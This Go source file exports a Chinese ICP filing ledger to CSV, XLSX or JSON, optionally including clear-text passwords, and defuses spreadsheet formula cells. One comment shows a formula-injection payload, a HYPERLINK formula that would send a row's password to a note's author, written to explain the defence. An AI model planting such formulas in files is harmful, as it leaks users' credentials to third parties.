package tabular

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"reflect"
	"slices"
	"strconv"
	"strings"

	"beianledger/internal/jsonrec"
	"beianledger/ledger"
)

// Export formats.
const (
	FormatCSV  = "csv"
	FormatXLSX = "xlsx"
	FormatJSON = "json"
)

// XLSXDateFormat is the number format of date cells in an XLSX export.
// Import reads any date number format back, this one included.
const XLSXDateFormat = "yyyy-mm-dd"

// Export writes the whole ledger as a 台账: "csv" (UTF-8 with a BOM, so
// that Excel on Chinese Windows opens it, Chinese headers), "xlsx" (one
// worksheet, bold header, real dates) or "json" (every record, see
// JSONExport). A site with several credentials takes one row per
// credential, the site's columns repeated; an entity's own credentials
// (not tied to a site) ride on its first site's rows with 账号归属 主体.
// Without includeSecrets the 密码 column is left out altogether; with it
// the file holds passwords in clear text, which the caller must warn
// about.
func Export(st ledger.Reader, format string, w io.Writer, includeSecrets bool) error {
	switch format {
	case FormatCSV:
		return exportCSV(st, w, includeSecrets)
	case FormatXLSX:
		return exportXLSX(st, w, includeSecrets)
	case FormatJSON:
		return exportJSON(st, w, includeSecrets)
	}
	return fmt.Errorf("unknown export format %q (use csv, xlsx or json)", format)
}

// exportColumns lists the column ids of a 台账 export.
func exportColumns(includeSecrets bool) []string {
	out := make([]string, 0, len(Columns))
	for _, c := range Columns {
		if c.ID == ColPassword && !includeSecrets {
			continue
		}
		out = append(out, c.ID)
	}
	return out
}

// cellValue is what one exported cell holds: a string, a ledger.Date or
// an int (0 and the zero Date are blank).
type cellValue = any

// ledgerRows walks the ledger and calls emit with each row's values, in
// the order of cols.
// bulkRevealer is implemented by readers that can open every secret of a
// kind in one pass (the vault's Store.Read reader).
type bulkRevealer interface {
	RevealAll(kind string) (map[string][]byte, error)
}

// revealer returns a function that opens one secret, served from a single
// bulk read where the reader supports it, and a function that wipes the
// bulk read's plaintext, to be called (deferred) when the export is done.
func revealer(st ledger.Reader) (reveal func(kind, id string) ([]byte, error), done func()) {
	b, ok := st.(bulkRevealer)
	if !ok {
		return st.Reveal, func() {}
	}
	cache := map[string]map[string][]byte{}
	done = func() {
		for _, m := range cache {
			for id, v := range m {
				clear(v)
				delete(m, id)
			}
		}
	}
	reveal = func(kind, id string) ([]byte, error) {
		m, ok := cache[kind]
		if !ok {
			var err error
			if m, err = b.RevealAll(kind); err != nil {
				return nil, err
			}
			cache[kind] = m
		}
		v, ok := m[id]
		if !ok {
			return nil, nil
		}
		return append([]byte(nil), v...), nil // the caller wipes its copy
	}
	return reveal, done
}

func ledgerRows(st ledger.Reader, cols []string, includeSecrets bool, emit func([]cellValue) error) error {
	reveal, wipe := revealer(st)
	defer wipe()
	entities, err := st.Entities()
	if err != nil {
		return err
	}
	sites, err := st.Sites()
	if err != nil {
		return err
	}
	creds, err := st.Credentials()
	if err != nil {
		return err
	}
	contacts, err := st.Contacts()
	if err != nil {
		return err
	}
	providers, err := st.Providers()
	if err != nil {
		return err
	}
	entByID := map[string]ledger.Entity{}
	for _, e := range entities {
		entByID[e.ID] = e
	}
	provByID := map[string]ledger.Provider{}
	for _, p := range providers {
		provByID[p.ID] = p
	}
	siteIDs := map[string]bool{}
	entityHasSite := map[string]bool{}
	for _, s := range sites {
		siteIDs[s.ID] = true
		entityHasSite[s.EntityID] = true
	}
	idx := newContactIndex(contacts)
	credsBySite := map[string][]ledger.Credential{}
	credsByEntity := map[string][]ledger.Credential{}
	var orphans []ledger.Credential
	for _, c := range creds {
		switch {
		case c.SiteID != "" && siteIDs[c.SiteID]:
			credsBySite[c.SiteID] = append(credsBySite[c.SiteID], c)
		case c.EntityID != "" && entByID[c.EntityID].ID != "":
			credsByEntity[c.EntityID] = append(credsByEntity[c.EntityID], c)
		default:
			orphans = append(orphans, c)
		}
	}
	pos := map[string]int{}
	for i, c := range cols {
		pos[c] = i
	}
	row := make([]cellValue, len(cols))
	put := func(col string, v cellValue) {
		if i, ok := pos[col]; ok {
			row[i] = v
		}
	}
	putEntity := func(e ledger.Entity) {
		put(ColEntity, e.Name)
		put(ColUSCC, e.USCC)
		put(ColEntityNumber, e.FilingNumber)
		put(ColEntityKind, writeLabel(entityKinds, e.Kind))
		put(ColLegalRep, e.LegalRep)
		put(ColEntityAddress, e.Address)
		put(ColEntityLicence, e.ICPLicence)
		put(ColEntityNotes, e.Notes)
	}
	putContacts := func(siteID, entityID string) {
		for _, cc := range contactColumns {
			c, ok := idx.pick(cc.role, siteID, entityID)
			if ok {
				put(cc.name, c.Name)
				put(cc.mobile, c.Mobile)
				put(cc.email, c.Email)
			}
		}
	}
	putCred := func(c ledger.Credential, entityScope bool) error {
		put(ColSystem, writeLabel(systems, c.System))
		put(ColLogin, c.Login)
		put(ColLoginURL, c.URL)
		put(ColPasswordChanged, c.LastRotated)
		put(ColRotationMonths, c.RotationMonths)
		put(ColCredentialNotes, c.Notes)
		if entityScope {
			put(ColCredentialScope, entityScopeLabel)
		}
		if includeSecrets && c.HasSecret {
			pw, err := reveal("credential", c.ID)
			if err != nil {
				return fmt.Errorf("credential %s: %w", c.Login, err)
			}
			// The cell needs a string; the bytes are wiped at once, the
			// string lives until the writer drops it.
			put(ColPassword, string(pw))
			clear(pw)
		}
		return nil
	}
	emitWith := func(base []cellValue, c *ledger.Credential, entityScope bool) error {
		copy(row, base)
		if c != nil {
			if err := putCred(*c, entityScope); err != nil {
				return err
			}
		}
		err := emit(row)
		for i := range row {
			row[i] = nil
		}
		return err
	}
	entityDone := map[string]bool{}
	for _, s := range sites {
		for i := range row {
			row[i] = nil
		}
		if e, ok := entByID[s.EntityID]; ok {
			putEntity(e)
		}
		put(ColSiteNumber, s.Number)
		put(ColSiteName, s.Name)
		put(ColDomains, strings.Join(s.Domains, ", "))
		if p, ok := provByID[s.ProviderID]; ok {
			put(ColProvider, p.Name)
			put(ColProviderConsole, p.ConsoleURL)
			put(ColProviderHotline, p.Hotline)
		}
		put(ColProvince, s.Province)
		put(ColFirstFiled, s.FirstFiled)
		put(ColLastChecked, s.LastChecked)
		put(ColPSBNumber, s.PSBNumber)
		put(ColNotes, s.Notes)
		put(ColSiteKind, writeLabel(siteKinds, s.Kind))
		put(ColStatus, writeLabel(statuses, s.Status))
		put(ColWentLive, s.WentLive)
		put(ColLastChanged, s.LastChanged)
		put(ColPSBDate, s.PSBDate)
		put(ColLicence, s.Licence)
		put(ColLicenceExpiry, s.LicenceExpiry)
		put(ColDomainExpiry, s.DomainExpiry)
		put(ColSSLExpiry, s.SSLExpiry)
		put(ColProductExpiry, s.ProductExpiry)
		putContacts(s.ID, s.EntityID)
		base := slices.Clone(row)
		sc := credsBySite[s.ID]
		var ec []ledger.Credential
		if s.EntityID != "" && !entityDone[s.EntityID] {
			entityDone[s.EntityID] = true
			ec = credsByEntity[s.EntityID]
		}
		if len(sc) == 0 && len(ec) == 0 {
			if err := emitWith(base, nil, false); err != nil {
				return err
			}
		}
		for i := range sc {
			if err := emitWith(base, &sc[i], false); err != nil {
				return err
			}
		}
		for i := range ec {
			if err := emitWith(base, &ec[i], true); err != nil {
				return err
			}
		}
	}
	// Entities without a site, with their own credentials.
	for _, e := range entities {
		if entityDone[e.ID] || entityHasSite[e.ID] {
			continue
		}
		for i := range row {
			row[i] = nil
		}
		putEntity(e)
		put(ColProvince, e.Province)
		putContacts("", e.ID)
		base := slices.Clone(row)
		ec := credsByEntity[e.ID]
		if len(ec) == 0 {
			if err := emitWith(base, nil, false); err != nil {
				return err
			}
		}
		for i := range ec {
			if err := emitWith(base, &ec[i], true); err != nil {
				return err
			}
		}
	}
	// Credentials tied to nothing.
	blank := make([]cellValue, len(cols))
	for i := range orphans {
		if err := emitWith(blank, &orphans[i], false); err != nil {
			return err
		}
	}
	return nil
}

// contactIndex finds the contact a row shows for each role.
// It points into the contacts it was made from (a copy of each contact
// per site it covers held 9 MB at 10,000 sites).
type contactIndex struct {
	bySite, byEntity map[string][]*ledger.Contact
}

func newContactIndex(contacts []ledger.Contact) *contactIndex {
	ix := &contactIndex{bySite: map[string][]*ledger.Contact{}, byEntity: map[string][]*ledger.Contact{}}
	// Current contacts before those who left.
	slices.SortStableFunc(contacts, func(a, b ledger.Contact) int {
		switch {
		case a.End.IsZero() && !b.End.IsZero():
			return -1
		case !a.End.IsZero() && b.End.IsZero():
			return 1
		}
		return 0
	})
	for i := range contacts {
		c := &contacts[i]
		for _, s := range c.SiteIDs {
			ix.bySite[s] = append(ix.bySite[s], c)
		}
		if c.EntityID != "" {
			ix.byEntity[c.EntityID] = append(ix.byEntity[c.EntityID], c)
		}
	}
	return ix
}

// pick returns the contact of a role for a site: the entity owner of the
// site's entity, the site owner and backup answering for the site (or,
// failing that, the entity's).
func (ix *contactIndex) pick(role, siteID, entityID string) (ledger.Contact, bool) {
	find := func(list []*ledger.Contact, ok func(*ledger.Contact) bool) (ledger.Contact, bool) {
		for _, c := range list {
			if ok(c) {
				return *c, true
			}
		}
		return ledger.Contact{}, false
	}
	is := func(r string) func(*ledger.Contact) bool { return func(c *ledger.Contact) bool { return c.Role == r } }
	switch role {
	case ledger.RoleEntityOwner:
		if c, ok := find(ix.byEntity[entityID], is(role)); ok {
			return c, true
		}
		return find(ix.bySite[siteID], is(role))
	case ledger.RoleSiteOwner:
		if c, ok := find(ix.bySite[siteID], is(role)); ok {
			return c, true
		}
		if c, ok := find(ix.bySite[siteID], is(ledger.RoleAdministrator)); ok {
			return c, true
		}
		return find(ix.byEntity[entityID], func(c *ledger.Contact) bool { return c.Role == role && len(c.SiteIDs) == 0 })
	default:
		if c, ok := find(ix.bySite[siteID], is(role)); ok {
			return c, true
		}
		return find(ix.byEntity[entityID], is(role))
	}
}

// ---- CSV

func exportCSV(st ledger.Reader, w io.Writer, includeSecrets bool) error {
	bw := bufio.NewWriter(w)
	if _, err := bw.WriteString("\ufeff"); err != nil {
		return err
	}
	cw := csv.NewWriter(bw)
	cw.UseCRLF = true // what Excel writes and expects
	cols := exportColumns(includeSecrets)
	hdr := make([]string, len(cols))
	for i, c := range cols {
		hdr[i] = columnByID[c].Chinese
	}
	if err := cw.Write(hdr); err != nil {
		return err
	}
	rec := make([]string, len(cols))
	err := ledgerRows(st, cols, includeSecrets, func(vals []cellValue) error {
		for i, v := range vals {
			rec[i] = defuseFormula(textOf(v))
		}
		err := cw.Write(rec)
		clear(rec)
		return err
	})
	if err != nil {
		return err
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		return err
	}
	return bw.Flush()
}

// A CSV cell that starts with = + - @ (or a tab or carriage return) is
// a formula to Excel, WPS and LibreOffice when the file is opened:
// =HYPERLINK("http://…?"&J2) in a notes cell would send the password in
// J2 of the same row to whoever wrote the note. Such cells are written
// with a leading apostrophe, which those programs show as text, and
// reading a CSV removes it again (restoreFormula). A cell that already
// starts with an apostrophe before such a character gets one more, so
// that the round trip is exact.
func formulaStart(v string) bool {
	if v == "" {
		return false
	}
	switch v[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	case '\'':
		return formulaStart(v[1:])
	}
	return false
}

// defuseFormula prefixes an apostrophe to a cell a spreadsheet would
// take for a formula.
func defuseFormula(v string) string {
	if formulaStart(v) {
		return "'" + v
	}
	return v
}

// restoreFormula undoes defuseFormula.
func restoreFormula(v string) string {
	if len(v) > 1 && v[0] == '\'' && formulaStart(v[1:]) {
		return v[1:]
	}
	return v
}

func textOf(v cellValue) string {
	switch v := v.(type) {
	case string:
		return v
	case ledger.Date:
		return v.String()
	case int:
		if v == 0 {
			return ""
		}
		return strconv.Itoa(v)
	}
	return ""
}

// ---- XLSX

func exportXLSX(st ledger.Reader, w io.Writer, includeSecrets bool) error {
	cols := exportColumns(includeSecrets)
	header := make([]string, len(cols))
	widths := make([]float64, len(cols))
	for i, c := range cols {
		header[i] = columnByID[c].Chinese
		widths[i] = 14
		switch {
		case isDateColumn(c):
			widths[i] = 12
		case c == ColEntity || c == ColSiteNumber || c == ColDomains || c == ColNotes || c == ColEntityAddress || c == ColPSBNumber:
			widths[i] = 26
		}
	}
	return writeXLSX(w, header, widths, func(emit func([]cellValue) error) error {
		return ledgerRows(st, cols, includeSecrets, emit)
	})
}

// ---- JSON

// JSONExport is the "json" export: every live record. Secrets (credential
// passwords and contacts' ID numbers) are present only when the export
// includes them.
type JSONExport struct {
	Format      string               `json:"format"` // "beianledger-export/1"
	Entities    []ledger.Entity      `json:"entities"`
	Sites       []ledger.SiteRow     `json:"sites"`
	Credentials []JSONCredential     `json:"credentials"`
	Contacts    []JSONContact        `json:"contacts"`
	Providers   []ledger.Provider    `json:"providers"`
	Checks      []ledger.StatusCheck `json:"checks"`
}

// JSONCredential is a credential with, optionally, its password.
type JSONCredential struct {
	ledger.Credential
	Password *string `json:"password,omitempty"`
}

// JSONContact is a contact with, optionally, its ID number.
type JSONContact struct {
	ledger.Contact
	IDNumber *string `json:"id_number,omitempty"`
}

// JSONFormat names the JSON export's layout.
const JSONFormat = "beianledger-export/1"

func exportJSON(st ledger.Reader, w io.Writer, includeSecrets bool) error {
	// Each table is read, written and dropped before the next is read:
	// the export holds one table's records at a time, not the ledger's.
	reveal, wipe := revealer(st)
	defer wipe()
	d, err := newJSONDoc(w, JSONFormat)
	if err != nil {
		return err
	}
	entities, err := st.Entities()
	if err != nil {
		return err
	}
	if err := jsonField(d, "entities", entities); err != nil {
		return err
	}
	entities = nil
	sites, err := st.Sites()
	if err != nil {
		return err
	}
	if err := jsonField(d, "sites", sites); err != nil {
		return err
	}
	sites = nil
	creds, err := st.Credentials()
	if err != nil {
		return err
	}
	// secret opens one sealed value as the string the record carries (the
	// opened bytes wiped at once).
	secret := func(kind, id string) (*string, error) {
		v, err := reveal(kind, id)
		if err != nil {
			return nil, err
		}
		s := string(v)
		clear(v)
		return &s, nil
	}
	jcreds := make([]JSONCredential, 0, len(creds))
	for _, c := range creds {
		jc := JSONCredential{Credential: c}
		if includeSecrets && c.HasSecret {
			if jc.Password, err = secret("credential", c.ID); err != nil {
				return fmt.Errorf("credential %s: %w", c.Login, err)
			}
		}
		jcreds = append(jcreds, jc)
	}
	creds = nil
	if err := jsonField(d, "credentials", jcreds); err != nil {
		return err
	}
	jcreds = nil
	contacts, err := st.Contacts()
	if err != nil {
		return err
	}
	jcontacts := make([]JSONContact, 0, len(contacts))
	for _, c := range contacts {
		jc := JSONContact{Contact: c}
		if includeSecrets && c.HasIDNumber {
			if jc.IDNumber, err = secret("contact-id", c.ID); err != nil {
				return fmt.Errorf("contact %s: %w", c.Name, err)
			}
		}
		jcontacts = append(jcontacts, jc)
	}
	contacts = nil
	if err := jsonField(d, "contacts", jcontacts); err != nil {
		return err
	}
	jcontacts = nil
	providers, err := st.Providers()
	if err != nil {
		return err
	}
	if err := jsonField(d, "providers", providers); err != nil {
		return err
	}
	checks, err := st.Checks("")
	if err != nil {
		return err
	}
	if err := jsonField(d, "checks", checks); err != nil {
		return err
	}
	return d.end()
}

// writeJSONExport writes out byte for byte as json.Encoder with
// SetIndent("", "  ") would, one record at a time: the encoder builds the
// whole document in memory first (hundreds of MB at 10,000 sites) before
// writing any of it.
func writeJSONExport(w io.Writer, out *JSONExport) error {
	d, err := newJSONDoc(w, out.Format)
	if err == nil {
		err = jsonField(d, "entities", out.Entities)
	}
	if err == nil {
		err = jsonField(d, "sites", out.Sites)
	}
	if err == nil {
		err = jsonField(d, "credentials", out.Credentials)
	}
	if err == nil {
		err = jsonField(d, "contacts", out.Contacts)
	}
	if err == nil {
		err = jsonField(d, "providers", out.Providers)
	}
	if err == nil {
		err = jsonField(d, "checks", out.Checks)
	}
	if err != nil {
		return err
	}
	return d.end()
}

// jsonDoc is the export document being written, field by field, in
// JSONExport's order.
type jsonDoc struct{ bw *bufio.Writer }

func newJSONDoc(w io.Writer, format string) (*jsonDoc, error) {
	f, err := json.Marshal(format)
	if err != nil {
		return nil, err
	}
	d := &jsonDoc{bw: bufio.NewWriterSize(w, 256<<10)}
	d.bw.WriteString("{\n  \"format\": ")
	d.bw.Write(f)
	return d, nil
}

// jsonField writes the next field of the document, a list of records.
func jsonField[T any](d *jsonDoc, name string, l []T) error {
	d.bw.WriteString(",\n  \"" + name + "\": ")
	return writeJSONList(d.bw, l)
}

func (d *jsonDoc) end() error {
	d.bw.WriteString("\n}\n")
	return d.bw.Flush()
}

// exportStyle is json.MarshalIndent's with the prefix of a record two
// levels deep in the document.
var exportStyle = jsonrec.Style{Indented: true, Prefix: "    ", EscapeHTML: true}

// writeJSONList writes a list as a field two levels deep in the indented
// document: null, [] or one element per indented block.
func writeJSONList[T any](bw *bufio.Writer, l []T) error {
	switch {
	case l == nil:
		bw.WriteString("null")
		return nil
	case len(l) == 0:
		bw.WriteString("[]")
		return nil
	}
	bw.WriteString("[\n")
	var b []byte
	for i := range l {
		b = append(b[:0], "    "...)
		var ok bool
		var err error
		if b, ok, err = jsonrec.Append(b, reflect.ValueOf(&l[i]).Elem(), exportStyle); err != nil {
			return err
		} else if !ok {
			j, err := json.MarshalIndent(&l[i], "    ", "  ")
			if err != nil {
				return err
			}
			b = append(b, j...)
		}
		if i < len(l)-1 {
			b = append(b, ",\n"...)
		} else {
			b = append(b, '\n')
		}
		bw.Write(b)
	}
	clear(b) // it held the last record's password, if any
	bw.WriteString("  ]")
	return nil
}
